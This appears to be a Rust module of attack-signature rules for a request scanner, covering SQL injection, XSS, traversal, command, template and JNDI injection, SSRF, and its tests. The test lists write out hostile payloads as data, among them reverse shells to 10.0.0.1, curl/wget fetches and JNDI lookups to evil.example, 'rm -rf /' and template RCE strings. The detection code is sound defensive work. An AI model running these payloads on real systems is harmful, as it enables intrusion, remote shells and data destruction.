//! Attack signatures on every request value: SQL injection, XSS, path traversal, command
//! injection, SSRF, template injection and JNDI lookups.
//!
//! ```text
//! request ─> sensitive::fields (path, query, headers, cookies, JSON scalars, form fields)
//!         ─> decode (further layers) ─> prefilter (Aho-Corasick, one pass, case-insensitive)
//!         ─> normalize ─> rules of the categories the prefilter woke (one RegexSet each) ─> hits
//! ```
//!
//! **Low false positives by construction.** Each rule needs the *shape* of an attack, not a
//! word: `select` is English, `union select 1,2` is not; an apostrophe is English, an
//! apostrophe followed by `or` and a comparison of two literals (`' or 'a'='a`) is a string
//! being broken out of. Rules marked `unbalanced` (a quote then a comment, `admin'--`) only
//! count when the value's quotes do not pair up, which cutting off the rest of a query needs
//! and ordinary text (`'quoted' words -- aside`) almost never has. Commands need arguments of
//! the right shape after a separator (`; cat /etc/passwd`, not `Q&A; cat lovers`); markup needs
//! an event handler or a script, not any tag; URLs are SSRF only when the value is a URL
//! (`ssrf`).
//!
//! **Fast on benign traffic.** Nearly every value (ids, names, numbers, dates) holds none of
//! the prefilter's literals, so it costs one Aho-Corasick pass and nothing else.

use std::ops::Range;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::{Regex, RegexSet, RegexSetBuilder};
use thiserror::Error;

use super::{decode, kind::Kind, ssrf};

/// Regex program size: the rules are fixed and small; this is generous headroom, not a knob.
const REGEX_SIZE_LIMIT: usize = 4 << 20;

#[derive(Debug, Error)]
pub enum SignatureError {
    #[error("signature rule `{rule}` does not compile: {source}")]
    Rule {
        rule: &'static str,
        #[source]
        source: regex::Error,
    },
    #[error("signature prefilter: {0}")]
    Prefilter(#[from] aho_corasick::BuildError),
}

/// One rule: a name for findings, a pattern over normalized (lowercased) text, and whether it
/// only counts when the value's quotes do not pair up.
struct Rule {
    name: &'static str,
    pattern: &'static str,
    unbalanced: bool,
}

const fn rule(name: &'static str, pattern: &'static str) -> Rule {
    Rule {
        name,
        pattern,
        unbalanced: false,
    }
}

const fn unbalanced(name: &'static str, pattern: &'static str) -> Rule {
    Rule {
        name,
        pattern,
        unbalanced: true,
    }
}

const SQL_RULES: &[Rule] = &[
    // `union select` followed by what a column list looks like, not prose ("union select
    // committee").
    rule(
        "union_select",
        r"\bunion(?:\s+(?:all|distinct))?[\s(]+select\b[\s(]*(?:\*|@@|null\b|\d|'|concat|char\s*\(|\w+\s*,|\w+\s+from\b|(?:user|version|database|schema)\s*\()",
    ),
    // A quote closing the application's string, then `or`/`and` and a comparison of literals
    // (`' or '1'='1`, `" or ""="`, `') or ('a'='a`, `' or 1=1--`). The right operand must be a
    // literal too, which prose after a quote ("'hi' and 'bye' = farewell") is not.
    rule(
        "tautology",
        r#"['"]\s*\)*\s*(?:or|and|\|\||&&)\s+\(*\s*(?:(?:['"]\w{0,12}['"]?|\d+)\s*(?:=|<>|!=|<=?|>=?|\blike\b)\s*(?:['"]|\d)|(?:true|false|\d+)\s*(?:--|#|;|\)|$))"#,
    ),
    rule(
        "numeric_tautology",
        r"^\s*-?\d+\s*\)*\s+(?:or|and)\s+\(*\s*(?:\d+\s*(?:=|<>|!=|<|>)\s*\d+|true\b|'[^']*'\s*=\s*'[^']*')",
    ),
    unbalanced("comment_truncation", r#"['"]\s*\)*\s*(?:--|#)"#),
    unbalanced(
        "order_by_probe",
        r#"['"]\s*\)*\s*(?:order|group)\s+by\s+\d+"#,
    ),
    rule(
        "stacked_query",
        r"(?:['\x22)]|\d)\s*;\s*(?:drop\s+(?:table|database)|delete\s+from|insert\s+into|update\s+\w+\s+set|select\s+(?:\*|@@|null\b|\w+\s*,|count\s*\(|concat|char\s*\(|\d)|truncate\s+table|alter\s+table|create\s+(?:table|user)|exec(?:ute)?\s+(?:xp_|sp_|master\.)|declare\s+@|shutdown\b)",
    ),
    rule(
        "time_based",
        r"\b(?:sleep|pg_sleep)\s*\(\s*\d|\bbenchmark\s*\(\s*\d|\bwaitfor\s+delay\s+'|\bdbms_pipe\.receive_message\s*\(",
    ),
    rule(
        "schema_probe",
        r"\binformation_schema\s*\.|\bsysobjects\b|\bpg_catalog\s*\.|\bsqlite_master\b|\bmysql\.user\b|@@version\b|\bxp_cmdshell\b|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|\b(?:extractvalue|updatexml)\s*\(|\butl_http\s*\.",
    ),
];

const XSS_RULES: &[Rule] = &[
    rule("script_tag", r"<\s*/?\s*script\b"),
    rule(
        "event_handler",
        r#"<[a-z][a-z0-9-]*\b[^>]*?[\s/"'](?:on[a-z]{3,})\s*="#,
    ),
    rule(
        "script_uri",
        r"(?:javascript|vbscript)\s*:\s*[a-z_$][\w$.]*\s*[(\x60=]",
    ),
    rule(
        "embedded_document",
        r#"<\s*(?:iframe|frame|object|embed)\b[^>]*\b(?:src|data)\s*=\s*["']?\s*(?:javascript|vbscript|data)\s*:|<\s*iframe\b[^>]*\bsrcdoc\s*=|data:\s*(?:text/html|image/svg\+xml)\s*[;,]"#,
    ),
    rule("cookie_theft", r"\bdocument\s*\.\s*cookie\b"),
    // Breaking out of an attribute value into a handler that calls something.
    rule(
        "attribute_breakout",
        r#"["']\s*(?:/|\s)\s*on[a-z]{3,}\s*=\s*["']?[a-z_$][\w$.]*\s*\("#,
    ),
];

const TRAVERSAL_RULES: &[Rule] = &[
    rule(
        "traversal_to_sensitive_file",
        r"\.\.;?[/\\].*?(?:etc[/\\](?:passwd|shadow|hosts|group|issue)|proc[/\\]self|windows[/\\](?:win\.ini|system32)|boot\.ini|\.ssh[/\\]|\.env\b|\.git[/\\]|web\.config|\.aws[/\\]credentials|wp-config\.php)",
    ),
    rule("deep_traversal", r"(?:\.\.;?[/\\]){3,}"),
    rule("leading_traversal", r"^\s*(?:\.\.;?[/\\]){2,}"),
    rule(
        "absolute_sensitive_file",
        r"^\s*(?:/etc/(?:passwd|shadow)\b|/proc/self/|[a-z]:\\windows\\(?:win\.ini|system32))",
    ),
];

/// Commands whose arguments make them unmistakable; used after a separator.
const COMMAND_AFTER_SEPARATOR: &str = r"(?:(?:cat|head|tail|more|less|nl|tac)\s+[/~$]|(?:ls|dir)(?:\s+-[a-z]+)*(?:\s+[/~]|\s*$|\s*[;&|#\x60)])|(?:id|whoami|uname|ifconfig|ipconfig|hostname|pwd|printenv|netstat)(?:\s+-[a-z]+)*\s*(?:$|[;&|#\x60)])|(?:wget|curl|nc|ncat|netcat|telnet|ping|nslookup|dig)\s+(?:-[a-z]+\s+)*(?:https?://|\d{1,3}\.\d{1,3}|[a-z0-9-]+\.[a-z]{2,}|\$)|(?:bash|sh|zsh|ksh|dash|python[23]?|perl|ruby|php|powershell|pwsh|cmd(?:\.exe)?)(?:\s+-[a-z]+|\s*$|\s+/|\s*[;&|#\x60)])|sleep\s+\d+\s*(?:$|[;&|#\x60)])|rm\s+-[a-z]*[rf]|chmod\s+[0-7+])";

const COMMAND_RULES: &[Rule] = &[
    Rule {
        name: "chained_command",
        // Built from COMMAND_AFTER_SEPARATOR in `Signatures::new` (concat! cannot take a const).
        pattern: "",
        unbalanced: false,
    },
    rule(
        "command_substitution",
        r"\$\(\s*(?:whoami|uname|cat\s|curl\s|wget\s|nc\s|bash|sh\s|sleep\s+\d|id\s*\))|\x60\s*(?:whoami|uname|cat\s+/|curl\s|wget\s|nc\s|bash\s|sleep\s+\d)[^\x60]*\x60",
    ),
    rule("ifs_evasion", r"\$\{ifs\}|\$ifs\b"),
    rule(
        "reverse_shell",
        r"/dev/tcp/|\bbash\s+-i\s*>\s*&|\bnc(?:at)?\s+(?:-[a-z]+\s+)*-e\s+/|\bmkfifo\s+/tmp/",
    ),
];

const TEMPLATE_RULES: &[Rule] = &[
    rule(
        "arithmetic_probe",
        r#"\{\{\s*['"]?\d+['"]?\s*[*+/-]\s*\d+\s*\}\}|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}|<%=?\s*\d+\s*[*+/-]\s*\d+\s*%>|\{\{=\s*\d+\s*[*+/-]\s*\d+\s*\}\}"#,
    ),
    rule(
        "object_traversal",
        // Python's object graph, as Jinja and Mako payloads walk it (`__init__.py` is a file
        // name, `__init__.__globals__` is a payload).
        r"__(?:class|mro|subclasses|globals|builtins|bases?)__|__init__\s*\.\s*__|__import__\s*\(",
    ),
    rule(
        "template_globals",
        r"\{\{[^}]{0,100}\b(?:config|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages)\b[^}]{0,100}\}\}|\{\{[^}]{0,40}\b(?:self|request)\s*(?:\.|\[|\|)\s*(?:_|application|environ|attr)",
    ),
    rule(
        "expression_language",
        r"[$#%]\{[^}]{0,200}(?:getruntime|processbuilder|\bexec\s*\(|\bt\s*\(\s*java\.|class\.forname|getclass\s*\(\s*\)|_memberaccess)|@java\.lang\.runtime@",
    ),
    rule(
        "template_directive",
        r"<#assign\b|\?new\s*\(\s*\)|freemarker\.template\.utility\.execute|#set\s*\(\s*\$|\$class\.inspect|\{\s*(?:php|system|exec|passthru)\b[^}]*\}|<%=?\s*(?:system|exec|%x|io\.popen|file\.read)\b",
    ),
];

const JNDI_RULES: &[Rule] = &[
    rule(
        "jndi_lookup",
        r"\$\{\s*jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
    ),
    rule("jndi_url", r"\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop)://"),
];

/// Log4j lookups that only rebuild text (`${lower:j}`, `${::-n}`, `${env:X:-d}`), used to hide
/// `jndi` from filters; they are folded away before the JNDI rules run.
const LOOKUP_FOLD: &str = r"\$\{\s*(?:lower\s*:|upper\s*:|:{1,2}-|(?:env|sys|main|ctx|date|sd|map|bundle|k8s|docker|web|spring|log4j|marker|java|base64)\s*:[^:}$]*:-)([^${}]*)\}";

/// Folding rounds: each undoes one level of nesting; real payloads use two or three.
const MAX_LOOKUP_FOLDS: usize = 8;

/// The categories, as bits of a prefilter mask.
const SQL: u8 = 1 << 0;
const XSS: u8 = 1 << 1;
const TRAVERSAL: u8 = 1 << 2;
const COMMAND: u8 = 1 << 3;
const TEMPLATE: u8 = 1 << 4;
const JNDI: u8 = 1 << 5;
const SSRF: u8 = 1 << 6;

/// Literals that wake each category (matched case-insensitively on the decoded value). A
/// category's rules cannot match without one of its literals.
const PREFILTER: &[(&str, u8)] = &[
    ("'", SQL | XSS),
    ("\"", SQL | XSS),
    ("=", SQL),
    (">", SQL),
    (" or ", SQL),
    (" and ", SQL),
    ("union", SQL),
    ("order", SQL),
    ("sleep", SQL | COMMAND),
    ("benchmark", SQL),
    ("waitfor", SQL),
    ("dbms_pipe", SQL),
    ("information_schema", SQL),
    ("sysobjects", SQL),
    ("pg_catalog", SQL),
    ("sqlite_master", SQL),
    ("mysql.user", SQL),
    ("@@version", SQL),
    ("xp_cmdshell", SQL),
    ("load_file", SQL),
    ("outfile", SQL),
    ("dumpfile", SQL),
    ("extractvalue", SQL),
    ("updatexml", SQL),
    ("utl_http", SQL),
    (";", SQL | COMMAND),
    ("<", SQL | XSS | TEMPLATE),
    ("javascript", XSS),
    ("vbscript", XSS),
    ("data:", XSS),
    ("cookie", XSS),
    ("..", TRAVERSAL),
    ("/etc/", TRAVERSAL),
    ("/proc/", TRAVERSAL),
    (":\\windows", TRAVERSAL),
    ("|", COMMAND),
    ("&", COMMAND),
    ("`", COMMAND),
    ("$(", COMMAND),
    ("$ifs", COMMAND),
    ("${ifs", COMMAND),
    ("\n", COMMAND),
    ("/dev/tcp", COMMAND),
    ("mkfifo", COMMAND),
    ("{{", TEMPLATE),
    ("${", TEMPLATE | JNDI),
    ("#{", TEMPLATE),
    ("%{", TEMPLATE),
    ("__", TEMPLATE),
    ("#set", TEMPLATE),
    ("?new", TEMPLATE),
    ("{php", TEMPLATE),
    ("{system", TEMPLATE),
    ("{exec", TEMPLATE),
    ("{passthru", TEMPLATE),
    ("@java", TEMPLATE),
    ("freemarker", TEMPLATE),
    ("$class", TEMPLATE),
    ("jndi", JNDI),
    ("://", SSRF),
    ("//", SSRF),
    (":", SSRF),
];

/// Where a value was: signatures that only make sense in some places check it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// The URL path: `..` there never comes from a well-behaved client, which normalizes it.
    Path,
    /// A parameter the application reads: query, form, JSON, cookie, other body text.
    Parameter,
    /// A request header (never a URL to fetch: referers and origins name pages, not targets).
    Header,
}

/// One signature that matched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub kind: Kind,
    pub rule: &'static str,
    /// Where in the decoded value.
    pub span: Range<usize>,
}

struct Category {
    kind: Kind,
    bit: u8,
    rules: &'static [Rule],
    set: RegexSet,
    each: Vec<Regex>,
}

/// The compiled signatures; build once, share.
pub struct Signatures {
    prefilter: AhoCorasick,
    categories: Vec<Category>,
    lookup_fold: Regex,
    path_traversal: Regex,
}

impl Signatures {
    pub fn new() -> Result<Signatures, SignatureError> {
        let prefilter = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(PREFILTER.iter().map(|(literal, _)| literal))?;
        let chained = format!(r"(?:[;&|\n\x60]|\$\()\s*{COMMAND_AFTER_SEPARATOR}");
        let compile = |name: &'static str, pattern: &str| {
            regex::RegexBuilder::new(pattern)
                .size_limit(REGEX_SIZE_LIMIT)
                .build()
                .map_err(|source| SignatureError::Rule { rule: name, source })
        };
        let mut categories = Vec::new();
        for (kind, bit, rules) in [
            (Kind::SqlInjection, SQL, SQL_RULES),
            (Kind::Xss, XSS, XSS_RULES),
            (Kind::PathTraversal, TRAVERSAL, TRAVERSAL_RULES),
            (Kind::CommandInjection, COMMAND, COMMAND_RULES),
            (Kind::TemplateInjection, TEMPLATE, TEMPLATE_RULES),
            (Kind::JndiInjection, JNDI, JNDI_RULES),
        ] {
            let patterns: Vec<&str> = rules
                .iter()
                .map(|r| {
                    if r.name == "chained_command" {
                        chained.as_str()
                    } else {
                        r.pattern
                    }
                })
                .collect();
            let set = RegexSetBuilder::new(&patterns)
                .size_limit(REGEX_SIZE_LIMIT)
                .build()
                .map_err(|source| SignatureError::Rule {
                    rule: kind.name(),
                    source,
                })?;
            let each = rules
                .iter()
                .zip(&patterns)
                .map(|(r, p)| compile(r.name, p))
                .collect::<Result<Vec<_>, _>>()?;
            categories.push(Category {
                kind,
                bit,
                rules,
                set,
                each,
            });
        }
        Ok(Signatures {
            prefilter,
            categories,
            lookup_fold: compile("lookup_fold", LOOKUP_FOLD)?,
            path_traversal: compile("path_traversal", r"(?:^|[/\\])\.\.;?(?:[/\\]|$)")?,
        })
    }

    /// Every category that matches `value` (already decoded), at most one hit per category.
    /// `scratch` is reused between calls to avoid allocating.
    pub fn scan(&self, value: &str, place: Place, scratch: &mut String, out: &mut Vec<Hit>) {
        let value = decode::prefix(value, decode::MAX_VALUE_BYTES);
        let mut mask = 0u8;
        for found in self.prefilter.find_overlapping_iter(value) {
            mask |= PREFILTER[found.pattern().as_usize()].1;
        }
        if place == Place::Header {
            mask &= !SSRF;
        }
        if mask == 0 {
            return;
        }
        decode::normalize(value, scratch);
        let normalized = scratch.as_str();
        for category in &self.categories {
            if mask & category.bit == 0 {
                continue;
            }
            if category.kind == Kind::JndiInjection {
                if let Some(hit) = self.jndi(value, normalized, category) {
                    out.push(hit);
                }
                continue;
            }
            if let Some(hit) = self.category_hit(category, normalized) {
                out.push(hit);
            }
        }
        if place == Place::Path
            && mask & TRAVERSAL != 0
            && !out.iter().any(|h| h.kind == Kind::PathTraversal)
        {
            if let Some(m) = self.path_traversal.find(normalized) {
                out.push(Hit {
                    kind: Kind::PathTraversal,
                    rule: "dot_segment_in_path",
                    span: m.range(),
                });
            }
        }
        if mask & SSRF != 0 {
            if let Some((target, url)) = ssrf::classify(value) {
                let start = url.as_ptr() as usize - value.as_ptr() as usize;
                out.push(Hit {
                    kind: Kind::Ssrf,
                    rule: target.rule(),
                    span: start..start + url.len(),
                });
            }
        }
    }

    fn category_hit(&self, category: &Category, text: &str) -> Option<Hit> {
        let matched = category.set.matches(text);
        if !matched.matched_any() {
            return None;
        }
        for index in matched.iter() {
            let rule = &category.rules[index];
            if rule.unbalanced && !quotes_unbalanced(text) {
                continue;
            }
            if let Some(m) = category.each[index].find(text) {
                return Some(Hit {
                    kind: category.kind,
                    rule: rule.name,
                    span: m.range(),
                });
            }
        }
        None
    }

    /// JNDI after folding the lookups that hide it. The fold changes offsets, so a hit found
    /// only after folding points at the whole value.
    fn jndi(&self, value: &str, normalized: &str, category: &Category) -> Option<Hit> {
        if let Some(hit) = self.category_hit(category, normalized) {
            return Some(hit);
        }
        if !normalized.contains("${") {
            return None;
        }
        let mut folded = normalized.to_string();
        for _ in 0..MAX_LOOKUP_FOLDS {
            let next = self.lookup_fold.replace_all(&folded, "$1");
            if next == folded {
                break;
            }
            folded = next.into_owned();
        }
        self.category_hit(category, &folded).map(|hit| Hit {
            span: 0..value.len(),
            ..hit
        })
    }
}

/// The value's single or double quotes do not pair up: a string literal was broken out of.
fn quotes_unbalanced(text: &str) -> bool {
    let singles = text.bytes().filter(|&b| b == b'\'').count();
    let doubles = text.bytes().filter(|&b| b == b'"').count();
    singles % 2 == 1 || doubles % 2 == 1
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(value: &str, place: Place) -> Vec<(Kind, &'static str)> {
        static SIGNATURES: std::sync::OnceLock<Signatures> = std::sync::OnceLock::new();
        let signatures = SIGNATURES.get_or_init(|| Signatures::new().unwrap());
        let mut out = Vec::new();
        let decoded = decode::decode(value);
        signatures.scan(&decoded, place, &mut String::new(), &mut out);
        out.into_iter().map(|h| (h.kind, h.rule)).collect()
    }

    fn kinds(value: &str) -> Vec<Kind> {
        hits(value, Place::Parameter)
            .into_iter()
            .map(|(k, _)| k)
            .collect()
    }

    fn assert_detects(kind: Kind, payloads: &[&str]) {
        for payload in payloads {
            assert!(
                kinds(payload).contains(&kind),
                "{payload:?} should be {kind:?}, got {:?}",
                hits(payload, Place::Parameter)
            );
        }
    }

    #[test]
    fn sql_injection_payloads() {
        assert_detects(
            Kind::SqlInjection,
            &[
                "' or '1'='1",
                "admin' --",
                "admin'#",
                "1' OR 1=1--",
                "\" or \"\"=\"",
                "') or ('a'='a",
                "1 or 1=1",
                "-1 OR 2>1",
                "1 UNION SELECT null,null,version()--",
                "1'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--",
                "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
                "x' union all select @@version#",
                "1; DROP TABLE users",
                "1'; select * from users--",
                "1' AND SLEEP(5)--",
                "1; WAITFOR DELAY '0:0:5'--",
                "1 and extractvalue(1,concat(0x7e,version()))",
                "' ORDER BY 3--",
                "1%27%20or%20%271%27%3D%271",
                "1%2527%2520or%25201%253D1--",
            ],
        );
    }

    #[test]
    fn xss_payloads() {
        assert_detects(
            Kind::Xss,
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(document.domain)>",
                "<svg/onload=alert(1)>",
                "\"><body onload=alert(1)>",
                "javascript:alert(1)",
                "JaVaScRiPt:eval(atob('YWxlcnQoMSk='))",
                "<iframe src=\"javascript:alert(1)\">",
                "<iframe srcdoc='<p>x'>",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                r"\u003cscript\u003ealert(1)\u003c/script\u003e",
                "x\" onmouseover=\"alert(1)",
            ],
        );
    }

    #[test]
    fn traversal_payloads() {
        assert_detects(
            Kind::PathTraversal,
            &[
                "../../../../etc/passwd",
                "..%2f..%2f..%2fetc%2fpasswd",
                "%252e%252e%252f%252e%252e%252fetc%252fshadow",
                "..\\..\\..\\windows\\win.ini",
                "....//....//....//etc/passwd",
                "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                "../.env",
                "/etc/passwd",
                "..;/..;/..;/WEB-INF/web.xml",
                "../../secret.txt",
            ],
        );
        assert_eq!(
            hits("/static/../../app.py", Place::Path),
            [(Kind::PathTraversal, "dot_segment_in_path")]
        );
    }

    #[test]
    fn command_injection_payloads() {
        assert_detects(
            Kind::CommandInjection,
            &[
                "127.0.0.1; cat /etc/passwd",
                "x && whoami",
                "x | id",
                "a`whoami`",
                "$(curl http://evil.example/x.sh)",
                "1;sleep 5;",
                "x||wget http://evil.example/x",
                "foo;${IFS}cat${IFS}/etc/passwd",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "x; nc -e /bin/sh 10.0.0.1 4444",
                "x\nls -la /",
                "a; rm -rf /",
            ],
        );
    }

    #[test]
    fn ssrf_payloads() {
        assert_detects(
            Kind::Ssrf,
            &[
                "http://169.254.169.254/latest/meta-data/",
                "http://127.0.0.1:6379/",
                "http://[::1]/admin",
                "http://2130706433/",
                "gopher://127.0.0.1:25/_HELO",
                "file:///etc/passwd",
                "http%3A%2F%2F169.254.169.254%2F",
            ],
        );
        // Headers name pages, not targets.
        assert!(hits("http://localhost:3000/", Place::Header).is_empty());
    }

    #[test]
    fn template_injection_payloads() {
        assert_detects(
            Kind::TemplateInjection,
            &[
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "<%= 7*7 %>",
                "{{'7'*7}}",
                "{{config.items()}}",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "{{request.application.__globals__}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
                "#set($x = 1)",
                "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            ],
        );
    }

    #[test]
    fn jndi_payloads() {
        assert_detects(
            Kind::JndiInjection,
            &[
                "${jndi:ldap://evil.example/a}",
                "${jndi:rmi://10.0.0.1:1099/x}",
                "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/x}",
                "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//evil.example/a}",
                "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
                "Mozilla/5.0 ${jndi:dns://x.evil.example}",
            ],
        );
    }

    /// Ordinary values that look a little like attacks: each must match nothing.
    #[test]
    fn look_alikes_are_not_attacks() {
        for value in [
            "O'Reilly",
            "don't stop believin'",
            "Tom's and Jerry's",
            "'quoted' words and 'more'",
            "it's 5 o'clock -- time for tea",
            "Please select the items from the list",
            "select",
            "The European Union select committee",
            "union station",
            "a = b",
            "x=1&y=2",
            "rock & roll",
            "Q&A; cats | dogs",
            "R&D budget; see table 3",
            "Salt & pepper; then serve",
            "I'll sleep on it; talk tomorrow",
            "2 + 2 = 4",
            "Hello {{name}}, your order {{order.id}} has shipped",
            "Price: ${price}",
            "Use `npm install` then `cat the-file`",
            "<p>Hello <b>world</b></p>",
            "<a href=\"https://example.com\">link</a>",
            "a < b and c > d",
            "JavaScript: The Good Parts",
            "../images/logo.png",
            "/usr/local/bin",
            "https://hooks.example.com/services/T000/B000",
            "https://cdn.example.com/a/../b.png",
            "see http://localhost:3000 for the dev server",
            "__init__.py",
            "snake_case_name",
            "email@example.com",
            "2026-11-28T18:45:55Z",
            "50% off",
            "C:\\Users\\alice\\Documents",
            "{\"nested\": \"json\"}",
            "SELECT * is a SQL keyword (in documentation)",
            "cookies and cream",
            "data: none",
            "Call me at 555-0100; ask for Ed",
            "He said \"hi\" and left",
            "5' 11\"",
            "me & you | forever",
        ] {
            assert_eq!(
                hits(value, Place::Parameter),
                [],
                "{value:?} is not an attack"
            );
        }
    }

    #[test]
    fn the_prefilter_covers_every_rule() {
        // Each category's payloads above reach their rules only through the prefilter; this
        // checks the literals cover case variations too.
        assert!(kinds("UnIoN SeLeCt 1,2").contains(&Kind::SqlInjection));
        assert!(kinds("<ScRiPt>").contains(&Kind::Xss));
    }
}
